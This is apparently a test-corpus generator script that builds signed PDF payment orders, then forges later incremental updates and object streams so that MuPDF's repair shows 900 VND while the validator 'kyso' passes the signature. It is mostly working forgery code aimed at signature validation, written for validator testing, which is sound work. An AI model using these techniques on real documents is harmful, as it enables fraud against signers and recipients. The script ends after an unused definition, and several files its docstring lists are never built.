#!/usr/bin/env python3
"""Object streams written after a signature that hold forged versions a PDF reader rebuilding
the cross-reference table shows (MuPDF loads every object stream's members over the table),
written back by a later update — helper 193's attacks on the relaxed rule of 2026-12-06 (an
earlier section may place a superseded member), each TOTAL-PASSED or told as "history" by that
build while MuPDF's rebuild drew "Payment order. Amount: 900 VND". Made with pyHanko (the
signatures) and by hand (the updates), nothing of kyso's.

    python3 objstm_history.py OUTDIR

OUTDIR gets root.pem; signed.pdf (the control: a one-page payment order of 100 VND, signed);
square.pdf (a Square annotation drawing 900 VND in an object stream after the signature, then
written plainly as an empty signature widget that the page's /Annots and the form's /Fields
name; square-countersigned.pdf: pyHanko signs that field); catalog.pdf, page.pdf, font.pdf (the
catalog, the page or its font forged in such an object stream, which its update's section lists,
then written back as signed); prepared.pdf (an empty visible signature field, prepared for a
second signer, planted after the signature "filled" by this very signature with an appearance
drawing 900 VND, written back as signed); phantom2.pdf (the page planted listing a later
signature's widget that no page of the final file lists, then countersigned by pyHanko with the
stamp "Payment order. Amount: 900 VND") — helper 194, against the fix of helper 193's files;
a2.pdf (a2-signed.pdf signed with a /DSS dictionary, object 60: an object stream after the
signature holds a forged page and object 60, which the next update writes as an object stream
holding the page as signed — MuPDF's repair, loading the first, skips the second and shows the
forged page), a3-perms.pdf and a3-meta.pdf (the catalog planted with /Perms naming this
signature as a certification, or a new /Metadata, written back as signed) — helper 196;
two-streams.pdf (page 3 as signed in a high-numbered object stream early in the file, forged in
a low-numbered one later, the table back on the first: MuPDF from 1.26 shows the forged page) —
helper 197; typeref.pdf (the stream holding the page as signed has a /Type that is a reference,
which MuPDF's repair cannot resolve yet and skips it) and maxnum.pdf (that stream's first member
numbered 8,388,607, which MuPDF drops unread, shifting the index) — helper 198;
reverse-signed.pdf (signed over a file whose object stream 10, from before signing, holds an
older page 3 and object 60) and reverse.pdf (after signing, object 60 written as an object
stream holding page 3 as signed, which MuPDF's repair skips: kyso lost the warning that the
older page may show); hidden-s1.pdf and hidden-s2.pdf (an object stream no section lists,
hidden by the preparer before signing, holding Squares drawing 900 VND under numbers an honest
countersignature then uses for its widget: MuPDF 1.21's repair draws them); and, honest, ac-s1.pdf … ac-s4.pdf (signed four times, the later three
updates written as Acrobat writes them, in object streams: every signature must pass); and
helper 202's: stream-page.pdf, stream-page-hidden-s2.pdf, stream-objstm.pdf (MuPDF's repair
keeps the first stream it measures of a number), catalog-history-s2.pdf (a catalog of the
document's history leading to a forged page), and, honest, info-pap.pdf and ppa.pdf; and
helper 203's: stream-space.pdf, stream-run-in.pdf, stream-in-string.pdf, stream-decoy.pdf,
later-stream-s2.pdf, needappearances-s2.pdf, and, honest, content-edited-s2.pdf; and
helper 205's: run-in-endstream.pdf, unparsed-page.pdf; and helper 208's:
token-before-stream-s2.pdf, endstream-split.pdf, run-in-signed.pdf, longer-length.pdf; and
helper 210's: xrefstm-number.pdf, sig-value-stream.pdf, xrefstm-content.pdf.
"""
import datetime as dt
import io
import os
import re
import sys
import zlib

from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import signers
from pyhanko.sign.fields import SigSeedSubFilter
from pyhanko.stamp import TextStampStyle
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID

D = sys.argv[1]
os.makedirs(D, exist_ok=True)
NOW = dt.datetime.now(dt.timezone.utc)

def cert(name, key, issuer, issuer_key, ca):
    return (x509.CertificateBuilder().subject_name(name).issuer_name(issuer)
            .public_key(key.public_key()).serial_number(x509.random_serial_number())
            .not_valid_before(NOW - dt.timedelta(days=1)).not_valid_after(NOW + dt.timedelta(days=365))
            .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
            .add_extension(x509.KeyUsage(digital_signature=not ca, content_commitment=not ca,
                                         key_encipherment=False, data_encipherment=False,
                                         key_agreement=False, key_cert_sign=ca, crl_sign=ca,
                                         encipher_only=False, decipher_only=False), critical=True)
            .sign(issuer_key, hashes.SHA256()))

if not os.path.exists(os.path.join(D, 'root.pem')):
    rk = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    rn = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, 'H193 Root')])
    root = cert(rn, rk, rn, rk, True)
    sk = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    signer = cert(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, 'Nguyen Van A')]), sk, rn, rk, False)
    for name, data in [('root.pem', root.public_bytes(serialization.Encoding.PEM)),
                       ('signer.pem', signer.public_bytes(serialization.Encoding.PEM)),
                       ('signer.key', sk.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                                       serialization.NoEncryption()))]:
        open(os.path.join(D, name), 'wb').write(data)

def build(objs):
    out = bytearray(b'%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')
    offs = {}
    for n in sorted(objs):
        offs[n] = len(out)
        out += b'%d 0 obj\n' % n + objs[n] + b'\nendobj\n'
    size = max(objs) + 1
    x = len(out)
    out += b'xref\n0 %d\n0000000000 65535 f \n' % size
    for n in range(1, size):
        out += (b'%010d 00000 n \n' % offs[n]) if n in offs else b'0000000000 00000 f \n'
    out += (b'trailer\n<< /Size %d /Root 1 0 R /ID [<0123456789abcdef0123456789abcdef>'
            b'<0123456789abcdef0123456789abcdef>] >>\nstartxref\n%d\n%%%%EOF\n' % (size, x))
    return bytes(out)

def stream(data, extra=b''):
    return b'<< /Length %d %s>>\nstream\n' % (len(data), extra) + data + b'\nendstream'

def last_xref(pdf):
    return (int(re.findall(rb'startxref\s+(\d+)', pdf)[-1]),
            int(re.findall(rb'/Size (\d+)', pdf)[-1]))

def sign(pdf, name='Sig1'):
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import signers
    from pyhanko.sign.fields import SigSeedSubFilter
    s = signers.SimpleSigner.load(os.path.join(D, 'signer.key'), os.path.join(D, 'signer.pem'),
                                  ca_chain_files=(os.path.join(D, 'root.pem'),))
    out = io.BytesIO()
    signers.PdfSigner(signers.PdfSignatureMetadata(field_name=name, subfilter=SigSeedSubFilter.PADES),
                      signer=s).sign_pdf(IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False), output=out)
    return out.getvalue()

def raw(pdf, n):
    return re.findall(rb'\n%d 0 obj\s*(.*?)\s*endobj' % n, pdf, re.S)[-1]

def append(pdf, objs, trailer, entries=None):
    out = bytearray(pdf)
    offs = {}
    for num, body in objs:
        offs[num] = len(out)
        out += b'%d 0 obj\n' % num + body + b'\nendobj\n'
    offs.update(entries or {})
    x = len(out)
    out += b'xref\n'
    for num in sorted(offs):
        o = offs[num]
        out += b'%d 1\n' % num + (b'0000000000 00001 f \n' if o is None else b'%010d 00000 n \n' % o)
    out += b'trailer\n<< ' + trailer + b' /Prev %d >>\nstartxref\n%d\n%%%%EOF\n' % (last_xref(pdf)[0], x)
    return bytes(out)

def append_xref_stream(pdf, objs, entries, trailer, num):
    out = bytearray(pdf)
    ent = {}
    for n, body in objs:
        ent[n] = (1, len(out), 0)
        out += b'%d 0 obj\n' % n + body + b'\nendobj\n'
    ent.update(entries)
    x = len(out)
    ent[num] = (1, x, 0)
    rows = b''.join(t.to_bytes(1, 'big') + a.to_bytes(4, 'big') + b.to_bytes(2, 'big')
                    for t, a, b in (ent[n] for n in sorted(ent)))
    index = b' '.join(b'%d 1' % n for n in sorted(ent))
    data = zlib.compress(rows)
    out += (b'%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%s] %s /Prev %d /Length %d '
            b'/Filter /FlateDecode >>\nstream\n' % (num, max(ent) + 1, index, trailer, last_xref(pdf)[0], len(data))
            + data + b'\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n' % x)
    return bytes(out)

def object_stream(members, typ=b'/ObjStm'):
    head, body = b'', b''
    for n, o in members:
        head += b'%d %d ' % (n, len(body))
        body += o + b'\n'
    data = zlib.compress(head + body)
    return (b'<< /Type %s /N %d /First %d /Length %d /Filter /FlateDecode >>\nstream\n'
            % (typ, len(members), len(head), len(data)) + data + b'\nendstream')

def save(name, data):
    p = os.path.join(D, name)
    open(p, 'wb').write(data)
    return p

HELV = b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
IDS = b'/ID [<0123456789abcdef0123456789abcdef><0123456789abcdef0123456789abcdef>]'


page = {
    1: b'<< /Type /Catalog /Pages 2 0 R >>',
    2: b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    3: b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R '
       b'/Resources << /Font << /F1 5 0 R >> >> >>',
    4: stream(b'BT /F1 20 Tf 60 700 Td (Payment order. Amount: 100 VND) Tj ET'),
    5: HELV,
}
signed = sign(build(page))
save('signed.pdf', signed)


# Case B: a new (post-signature) signature widget, 12, whose forged visible version sits in an
# object stream written after the signature and which a later update rewrites plainly,
# invisible. The signed revision does not use 12, so rebuilt_shows_otherwise never compares it.
prev, size = last_xref(signed)
assert size == 11, size
AP = b'1 g 0 0 500 40 re f 0 g BT /F1 20 Tf 5 10 Td (Payment order. Amount: 900 VND) Tj ET'
forged_ap = stream(AP, b'/Type /XObject /Subtype /Form /BBox [0 0 500 40] /Resources << /Font << /F1 5 0 R >> >> ')
forged_w = (b"<< /Type /Annot /Subtype /" + b"Square" + b' /F 4 /Rect [55 690 555 730] '
            b'/P 3 0 R /AP << /N 11 0 R >> >>')
TAG = "square"
u1 = append_xref_stream(signed, [(11, forged_ap), (13, object_stream([(12, forged_w)]))],
                        {12: (2, 13, 0)}, b'/Root 1 0 R ' + IDS, 14)
plain_w = b'<< /FT /Sig /T (Sig2) /Type /Annot /Subtype /Widget /F 132 /Rect [0 0 0 0] /P 3 0 R >>'
page3 = raw(signed, 3).replace(b'/Annots [ 8 0 R ]', b'/Annots [ 8 0 R 12 0 R ]')
form7 = raw(signed, 7).replace(b'/Fields [ 8 0 R ]', b'/Fields [ 8 0 R 12 0 R ]')
assert page3 != raw(signed, 3) and form7 != raw(signed, 7)
final = append(u1, [(3, page3), (7, form7), (12, plain_w)], b'/Size 15 /Root 1 0 R ' + IDS)
save(TAG + '.pdf', final)
save(TAG + '-countersigned.pdf', sign(final, 'Sig2'))  # pyHanko countersigns the empty field


def forged_history(KIND):

    cat = raw(signed, 1)
    if KIND == 'catalog':
        forged = cat.replace(b'/Pages 2 0 R', b'/Pages 11 0 R')
        assert forged != cat
        plain = [(11, b'<< /Type /Pages /Kids [12 0 R] /Count 1 >>'),
                 (12, b'<< /Type /Page /Parent 11 0 R /MediaBox [0 0 595 842] /Contents 13 0 R '
                      b'/Resources << /Font << /F1 5 0 R >> >> /Annots [8 0 R] >>'),
                 (13, stream(b'BT /F1 20 Tf 60 700 Td (Payment order. Amount: 900 VND) Tj ET'))]
        member, back = 1, cat
    elif KIND == 'page':
        pg = raw(signed, 3)
        forged = pg.replace(b'/Contents 4 0 R', b'/Contents 13 0 R')
        assert forged != pg
        plain = [(13, stream(b'BT /F1 20 Tf 60 700 Td (Payment order. Amount: 900 VND) Tj ET'))]
        member, back = 3, pg
    elif KIND == 'font':  # Helvetica -> a font whose /Differences maps 1 to 9
        forged = b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Differences [49 /nine] >> >>'
        plain = []
        member, back = 5, raw(signed, 5)
    u1 = append_xref_stream(signed, plain + [(14, object_stream([(member, forged)]))],
                            {member: (2, 14, 0)}, b'/Root 1 0 R ' + IDS, 15)
    final = append(u1, [(member, back)], b'/Size 16 /Root 1 0 R ' + IDS)
    save(KIND + '.pdf', final)



for kind in ('catalog', 'page', 'font'):
    forged_history(kind)


# Helper 194, against the fix of helper 193's files:
prep_page = {
    1: b'<< /Type /Catalog /Pages 2 0 R /AcroForm 6 0 R >>',
    2: b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    3: b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R '
       b'/Resources << /Font << /F1 5 0 R >> >> /Annots [7 0 R] >>',
    4: stream(b'BT /F1 20 Tf 60 700 Td (Payment order. Amount: 100 VND) Tj ET'),
    5: HELV,
    6: b'<< /Fields [7 0 R] >>',
    7: b'<< /FT /Sig /T (Sig2) /Type /Annot /Subtype /Widget /F 4 /Rect [55 690 555 730] /P 3 0 R >>',
}
p_signed = sign(build(prep_page))
save('prepared-signed.pdf', p_signed)
prev, size = last_xref(p_signed)
sigdict = [int(m) for m in re.findall(rb'/V (\d+) 0 R', p_signed)][-1]
n_ap, n_os, n_x = size, size + 1, size + 2
AP = b'1 g 0 0 500 40 re f 0 g BT /F1 20 Tf 5 10 Td (Payment order. Amount: 900 VND) Tj ET'
ap = stream(AP, b'/Type /XObject /Subtype /Form /BBox [0 0 500 40] /Resources << /Font << /F1 5 0 R >> >> ')
w7 = raw(p_signed, 7)
forged7 = (w7[:-2] + b' /V %d 0 R /AP << /N %d 0 R >> >>' % (sigdict, n_ap))
u1 = append_xref_stream(p_signed, [(n_ap, ap), (n_os, object_stream([(7, forged7)]))],
                        {7: (2, n_os, 0)}, b'/Root 1 0 R ' + IDS, n_x)
final = append(u1, [(7, w7)], b'/Size %d /Root 1 0 R ' % (n_x + 1) + IDS)
save('prepared.pdf', final)


w = (b'<< /FT /Sig /T (Sig2) /Type /Annot /Subtype /Widget /F 4 /Rect [55 690 555 730] /P 3 0 R >>')
page3 = raw(signed, 3)
forged3 = page3.replace(b'/Annots [ 8 0 R ]', b'/Annots [ 8 0 R 12 0 R ]')
assert forged3 != page3
u1 = append_xref_stream(signed, [(12, w), (14, object_stream([(3, forged3)]))],
                        {3: (2, 14, 0)}, b'/Root 1 0 R ' + IDS, 15)
form7 = raw(signed, 7).replace(b'/Fields [ 8 0 R ]', b'/Fields [ 8 0 R 12 0 R ]')
assert form7 != raw(signed, 7)
prep = append(u1, [(3, page3), (7, form7)], b'/Size 16 /Root 1 0 R ' + IDS)
save('phantom2-prep.pdf', prep)
s = signers.SimpleSigner.load(os.path.join(D, 'signer.key'), os.path.join(D, 'signer.pem'),
                              ca_chain_files=(os.path.join(D, 'root.pem'),))
out = io.BytesIO()
signers.PdfSigner(signers.PdfSignatureMetadata(field_name='Sig2', subfilter=SigSeedSubFilter.PADES),
                  signer=s,
                  stamp_style=TextStampStyle(stamp_text='Payment order. Amount: 900 VND', border_width=0)
                  ).sign_pdf(IncrementalPdfFileWriter(io.BytesIO(prep), strict=False), output=out)
save('phantom2.pdf', out.getvalue())


# Helper 196, against the fix of helper 194's files:
DSSN = 60
a2_page = {
    1: b'<< /Type /Catalog /Pages 2 0 R /DSS %d 0 R >>' % DSSN,
    2: b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    3: b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R '
       b'/Resources << /Font << /F1 5 0 R >> >> >>',
    4: stream(b'BT /F1 20 Tf 60 700 Td (Payment order. Amount: 100 VND) Tj ET'),
    5: HELV,
    DSSN: b'<< /Certs [] >>',
}
a2_signed = sign(build(a2_page))
save('a2-signed.pdf', a2_signed)
prev, size = last_xref(a2_signed)
A = 30
C = size          # forged content stream, a new number
p3 = raw(a2_signed, 3)
forged3 = p3.replace(b'/Contents 4 0 R', b'/Contents %d 0 R' % C)
assert forged3 != p3
dss = raw(a2_signed, DSSN)
u1 = append_xref_stream(a2_signed,
    [(C, stream(b'BT /F1 20 Tf 60 700 Td (Payment order. Amount: 900 VND) Tj ET')),
     (A, object_stream([(3, forged3), (DSSN, dss)]))],
    {3: (2, A, 0), DSSN: (2, A, 1)}, b'/Root 1 0 R ' + IDS, C + 1)
final = append_xref_stream(u1, [(DSSN, object_stream([(3, p3)]))],
    {3: (2, DSSN, 0)}, b'/Root 1 0 R ' + IDS, C + 2)
save('a2.pdf', final)


prev, size = last_xref(signed)
sigv = [int(m) for m in re.findall(rb'/V (\d+) 0 R', signed)][-1]
cat = raw(signed, 1)
for tag, extra, plain in [
    ('perms', b' /Perms << /DocMDP %d 0 R >>' % sigv, []),
    ('meta', b' /Metadata %d 0 R' % size,
     [(size, stream(b'<x:xmpmeta xmlns:x="adobe:ns:meta/"/>', b'/Type /Metadata /Subtype /XML '))]),
]:
    forged = cat[:-2] + extra + b' >>'
    n = size + 1
    u1 = append_xref_stream(signed, plain + [(n, object_stream([(1, forged)]))],
                            {1: (2, n, 0)}, b'/Root 1 0 R ' + IDS, n + 1)
    final = append(u1, [(1, cat)], b'/Size %d /Root 1 0 R ' % (n + 2) + IDS)
    save('a3-' + tag + '.pdf', final)


# Helper 197: two object streams written after the signature hold versions of page 3 — as
# signed in a high-numbered stream early in the file, forged in a low-numbered one later; the
# last section places 3 back in the high one. MuPDF from 1.26 (its bug 708286) lets no stream
# member replace an entry found later in the file, so the low stream's forged page stays; kyso
# modelled the older MuPDF only.
pg = raw(signed, 3)
forged_pg = pg.replace(b'/Contents 4 0 R', b'/Contents 13 0 R')
assert forged_pg != pg
HI, LO = 40, 20
u1 = append_xref_stream(signed, [(HI, object_stream([(3, pg)]))], {3: (2, HI, 0)},
                        b'/Root 1 0 R ' + IDS, 41)
u2 = append_xref_stream(u1, [(13, stream(b'BT /F1 20 Tf 60 700 Td (Payment order. Amount: 900 VND) Tj ET')),
                             (LO, object_stream([(3, forged_pg)]))], {3: (2, LO, 0)},
                        b'/Root 1 0 R ' + IDS, 42)
save('two-streams.pdf', append_xref_stream(u2, [], {3: (2, HI, 0)}, b'/Root 1 0 R ' + IDS, 43))


# Helper 198: a stream holding page 3 as signed whose /Type is a reference to /ObjStm in a
# later-numbered stream (MuPDF's repair resolves it in the table it is still rebuilding, finds
# nothing and skips the stream: the forged page of stream 20 stays); and one holding page 3
# after a member numbered 8,388,607 (MuPDF drops that member unread and shifts the index: page 3
# is never loaded from it).
FORGED_CONTENT = stream(b'BT /F1 20 Tf 60 700 Td (Payment order. Amount: 900 VND) Tj ET')


u1 = append_xref_stream(signed, [(13, FORGED_CONTENT), (20, object_stream([(3, forged_pg)]))],
                        {3: (2, 20, 0)}, b'/Root 1 0 R ' + IDS, 21)
save('typeref.pdf', append_xref_stream(
    u1, [(30, object_stream([(3, pg)], b'77 0 R')), (40, object_stream([(77, b'/ObjStm')]))],
    {3: (2, 30, 0), 77: (2, 40, 0)}, b'/Root 1 0 R ' + IDS, 41))
TOP = 8388607
save('maxnum.pdf', append_xref_stream(
    u1, [(30, object_stream([(TOP, b'<< /Kind /Nothing >>'), (3, pg)]))],
    {3: (2, 30, 1), TOP: (2, 30, 0)}, b'/Root 1 0 R ' + IDS, 31))


# The reverse of helper 196's a2: before signing, the preparer's object stream 10 held an older
# page 3 (900 VND) and object 60, and a plain update put page 3 back (100 VND: what the signer
# signs; the stream's page is the document's history, which MuPDF 1.21's repair rolls back to —
# in the signed file too — and kyso tells as a warning once a revision follows). After signing,
# object 60 is written as an object stream holding page 3 as signed: kyso's model took that
# stream for the last word and said nothing of the older page (TOTAL-PASSED), while MuPDF's
# repair, loading stream 10 first, takes 60 for a plain object and skips it. MuPDF 1.28.5 shows
# 100 VND either way. No writer numbers a stream as another stream's member: refused.
pre = build(page)
old_pg = raw(pre, 3).replace(b'/Contents 4 0 R', b'/Contents 13 0 R')
u0 = append_xref_stream(pre, [(13, FORGED_CONTENT),
                              (10, object_stream([(3, old_pg), (60, b'<< /Kind /Note >>')]))],
                        {3: (2, 10, 0), 60: (2, 10, 1)}, b'/Root 1 0 R ' + IDS, 14)
u0b = append_xref_stream(u0, [(3, raw(pre, 3))], {}, b'/Root 1 0 R ' + IDS, 15)
r_signed = sign(u0b)
save('reverse-signed.pdf', r_signed)
save('reverse.pdf', append_xref_stream(
    r_signed, [(60, object_stream([(3, raw(r_signed, 3))]))], {3: (2, 60, 0)},
    b'/Root 1 0 R ' + IDS, int(re.findall(rb'/Size (\d+)', r_signed)[-1]) + 1))


# Honest, after helper 199: four signatures by pyHanko, the second to fourth written as Acrobat
# writes its updates — every dictionary and array of the update (the page, the form, the widget)
# in an object stream. Each signature adds its widget to the page's /Annots, so the page's
# version in one stream lists earlier widgets than the final page: the third signature failed
# the first, the fourth the first two. ac-s1.pdf … ac-s4.pdf.
from pyhanko.pdf_utils import generic


class ObjStmWriter(IncrementalPdfFileWriter):
    def _write_objects(self, stream, pos):
        self.stream_xrefs = True
        stm = None
        for ix in sorted(list(self.objects.keys())):
            gen, idnum = ix
            obj = self.objects[ix]
            plain_dict = (isinstance(obj, generic.DictionaryObject)
                          and not isinstance(obj, generic.StreamObject)
                          and '/ByteRange' not in obj)
            if gen == 0 and (plain_dict or isinstance(obj, generic.ArrayObject)):
                if stm is None:
                    stm = self.prepare_object_stream()
                del self.objects[ix]
                stm.add_object(idnum, obj)
                self.objs_in_streams[idnum] = obj
        return super()._write_objects(stream, pos)


def sign_acrobat_style(pdf, name):
    s = signers.SimpleSigner.load(os.path.join(D, 'signer.key'), os.path.join(D, 'signer.pem'),
                                  ca_chain_files=(os.path.join(D, 'root.pem'),))
    out = io.BytesIO()
    w = ObjStmWriter(io.BytesIO(pdf), strict=False)
    w.stream_xrefs = True
    signers.PdfSigner(signers.PdfSignatureMetadata(field_name=name,
                                                   subfilter=SigSeedSubFilter.PADES),
                      signer=s).sign_pdf(w, output=out)
    return out.getvalue()


ac = sign(build(page))
save('ac-s1.pdf', ac)
for n in (2, 3, 4):
    ac = sign_acrobat_style(ac, 'Sig%d' % n)
    save('ac-s%d.pdf' % n, ac)


# Helper 199 (older than 2026-12-06): the preparer hides, before signing, an object stream no
# section lists whose members 11–39 are white Squares drawing "Payment order. Amount: 900 VND".
# The official signs (hidden-s1.pdf: nothing after it, nothing to judge); an honest
# countersignature by pyHanko numbers its widget 12 — and MuPDF 1.21's repair takes the hidden
# member for object 12 and draws it (hidden-s2.pdf). Both signatures were TOTAL-PASSED.
hidden_ap = stream(b'1 g 0 0 500 40 re f 0 g BT /F1 20 Tf 5 10 Td (Payment order. Amount: 900 VND) Tj ET',
                   b'/Type /XObject /Subtype /Form /BBox [0 0 500 40] /Resources << /Font << /F1 5 0 R >> >> ')
hidden_sq = (b'<< /Type /Annot /Subtype /Square /F 4 /Rect [55 690 555 730] /P 3 0 R '
             b'/AP << /N 99 0 R >> >>')
h_base = build(page)
h_at = h_base.rindex(b'\nxref\n') + 1
h_hid = (b'99 0 obj\n' + hidden_ap + b'\nendobj\n98 0 obj\n'
         + object_stream([(k, hidden_sq) for k in range(11, 40)]) + b'\nendobj\n')
h_base = h_base[:h_at] + h_hid + h_base[h_at:]
h_base = re.sub(rb'startxref\n\d+', b'startxref\n%d' % (h_at + len(h_hid)), h_base)
h_s1 = sign(h_base)
save('hidden-s1.pdf', h_s1)
save('hidden-s2.pdf', sign(h_s1, 'Sig2'))


# Helper 202: MuPDF's repair keeps the dictionary of a number's first stream whose length it
# measures (its /Length indirect, say), whatever headers of the number come after, and reads
# the data under the last header. stream-page.pdf: after the signature, page 3 written as a
# stream whose dictionary is the forged page, then written back as signed (kyso compared only
# the last header; MuPDF 1.21 and 1.28 drew 900 VND after a repair); stream-page-hidden-s2.pdf:
# the same stream page hidden by the preparer before signing, then countersigned by pyHanko;
# stream-objstm.pdf: object stream 30 written (indirect /Length) holding page 3 as signed, then
# written again as a plain stream whose data is an index with a forged page 3 — MuPDF reads it
# with the first dictionary; catalog-history-s2.pdf: before signing, an object stream held a
# catalog whose /Pages led to a forged page and the next update put the plain catalog back
# (the document's history: told, as content rolled back, not as a note).
s_pg = raw(signed, 3)
s_forged = s_pg.replace(b'/Contents 4 0 R', b'/Contents 99 0 R')
u1 = append(signed, [(98, b'1'), (99, FORGED_CONTENT),
                     (3, s_forged[:-2] + b' /Length 98 0 R >>\nstream\nx\nendstream')],
            b'/Size 100 /Root 1 0 R ' + IDS)
save('stream-page.pdf', append(u1, [(3, s_pg)], b'/Size 100 /Root 1 0 R ' + IDS))

f_base = build(page)
f_at = f_base.index(b'1 0 obj')
f_hid = (b'3 0 obj\n' + page[3].replace(b'/Contents 4 0 R', b'/Contents 99 0 R')[:-2]
         + b' /Length 1 >>\nstream\nxx\nendstream\nendobj\n99 0 obj\n' + FORGED_CONTENT + b'\nendobj\n')
f_base = f_base[:f_at] + f_hid + f_base[f_at:]
f_base = re.sub(rb'startxref\n\d+', b'startxref\n%d' % (f_base.rindex(b'\nxref\n') + 1), f_base)
f_base = re.sub(rb'\n(\d{10}) 00000 n ',
                lambda m: b'\n%010d 00000 n ' % (int(m.group(1)) + len(f_hid)), f_base)
save('stream-page-hidden-s2.pdf', sign(sign(f_base), 'Sig2'))

o_at = signed.rindex(b'\n3 0 obj') + 1
o_head = b'3 0 '
o_signed = zlib.compress(o_head + s_pg + b'\n', 0)
o_forged = zlib.compress(o_head + s_forged.replace(b'/Contents 99 0 R', b'/Contents 99 0 R') + b'\n', 9)
u1 = append_xref_stream(signed, [(31, b'%d' % len(o_signed)),
                                 (30, b'<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length 31 0 R >>\nstream\n'
                                  % len(o_head) + o_signed + b'\nendstream')],
                        {3: (2, 30, 0)}, b'/Root 1 0 R ' + IDS, 32)
save('stream-objstm.pdf', append_xref_stream(
    u1, [(99, FORGED_CONTENT), (30, b'<< /Length %d >>\nstream\n' % len(o_forged) + o_forged + b'\nendstream')],
    {3: (1, o_at, 0)}, b'/Root 1 0 R ' + IDS, 33))

EXT = b'/Extensions << /ESIC << /Type /DeveloperExtensions /BaseVersion /1.7 /ExtensionLevel 2 >> >>'
c_prep = dict(page)
c_prep[1] = b'<< /Type /Catalog /Pages 2 0 R /AcroForm 6 0 R ' + EXT + b' >>'
c_prep[6] = b'<< /Fields [] >>'
r0 = build(c_prep)
c_forged = c_prep[1].replace(b'/Pages 2 0 R', b'/Pages 11 0 R')
c_page = c_prep[3].replace(b'/Parent 2 0 R', b'/Parent 11 0 R').replace(b'/Contents 4 0 R', b'/Contents 13 0 R')
r1 = append_xref_stream(r0, [(13, FORGED_CONTENT), (20, object_stream(
    [(1, c_forged), (11, b'<< /Type /Pages /Kids [12 0 R] /Count 1 >>'), (12, c_page)]))],
    {1: (2, 20, 0), 11: (2, 20, 1), 12: (2, 20, 2)}, b'/Root 1 0 R ' + IDS, 21)
r2 = append(r1, [], b'/Size 22 /Root 1 0 R ' + IDS, entries={1: r0.index(b'1 0 obj')})
save('catalog-history-s2.pdf', sign(sign(r2), 'Sig2'))


# Honest (helper 202): signed plainly, then Acrobat-style (the trailer's /Info goes into its
# object stream), then plainly again a second later (pyHanko rewrites /Info's /ModDate
# plainly): info-pap.pdf; and plainly twice, then Acrobat-style (the page's plain versions from
# the two plain updates, then the page in an object stream): ppa.pdf. Every signature passes.
import time
i1 = sign(build(page))
time.sleep(1.1)
i2 = sign_acrobat_style(i1, 'Sig2')
time.sleep(1.1)
save('info-pap.pdf', sign(i2, 'Sig3'))
save('ppa.pdf', sign_acrobat_style(sign(i1, 'Sig2'), 'Sig3'))


# Helper 203, against the first model of that quirk (which header MuPDF measures first): page 3
# forged as a stream after the signature, then written back as signed — its /Length direct and
# right but `stream ` followed by a space (stream-space.pdf), its `endstream` run into `endobj`
# (stream-run-in.pdf), its header inside a string of a listed array (stream-in-string.pdf), or
# behind a decoy copy of the signed page in another stream's data (stream-decoy.pdf);
# later-stream-s2.pdf: object 12 written as a stream whose dictionary is a Square drawing 900
# VND, then as the empty signature field pyHanko signs; needappearances-s2.pdf: the preparer's
# history holds /NeedAppearances true over a field whose value says 900 while its appearance
# says 100 (MuPDF 1.28 draws the value after a repair). And, honest, content-edited-s2.pdf: a
# content stream with an indirect /Length rewritten in place before signing, signed twice.
def update_raw(pdf, objs, trailer):
    """An update whose objects are written as given, `N 0 obj` and all (no `endobj` added)."""
    out = bytearray(pdf)
    offs = {}
    for num, body in objs:
        offs[num] = len(out)
        out += b'%d 0 obj\n' % num + body + b'\n'
    x = len(out)
    out += b'xref\n'
    for num in sorted(offs):
        out += b'%d 1\n%010d 00000 n \n' % (num, offs[num])
    out += b'trailer\n<< ' + trailer + b' /Prev %d >>\nstartxref\n%d\n%%%%EOF\n' % (last_xref(pdf)[0], x)
    return bytes(out)


T100 = b'/Size 100 /Root 1 0 R ' + IDS
for tag, u1 in [
    ('stream-space', append(signed, [(99, FORGED_CONTENT),
                                     (3, s_forged[:-2] + b' /Length 2 >>\nstream \nxy\nendstream')], T100)),
    ('stream-run-in', update_raw(signed, [(99, FORGED_CONTENT + b'\nendobj'),
                                          (3, s_forged[:-2] + b' /Length 1 >>\nstream\nx\nendstreamendobj')], T100)),
    ('stream-in-string', append(signed, [(98, b'1'), (99, FORGED_CONTENT), (20, b'[ 5 (\n3 0 obj\n' + s_forged[:-2]
                                          + b' /Length 98 0 R >>\nstream%\nx\nendstream\nendobj\n) ]')], T100)),
    ('stream-decoy', append(signed, [
        (20, stream(b'\n3 0 obj\n' + s_pg + b'\nstream\nzz\n')), (98, b'1'), (99, FORGED_CONTENT),
        (3, s_forged[:-2] + b' /Length 98 0 R >>\nstream\nx\nendstream')], T100)),
]:
    save(tag + '.pdf', append(u1, [(3, s_pg)], T100))

sq_ap = stream(b'1 g 0 0 500 40 re f 0 g BT /F1 20 Tf 5 10 Td (Payment order. Amount: 900 VND) Tj ET',
               b'/Type /XObject /Subtype /Form /BBox [0 0 500 40] /Resources << /Font << /F1 5 0 R >> >> ')
sq12 = (b'<< /Type /Annot /Subtype /Square /F 4 /Rect [55 690 555 730] /P 3 0 R '
        b'/AP << /N 14 0 R >> /Length 15 0 R >>\nstream\nx\nendstream')
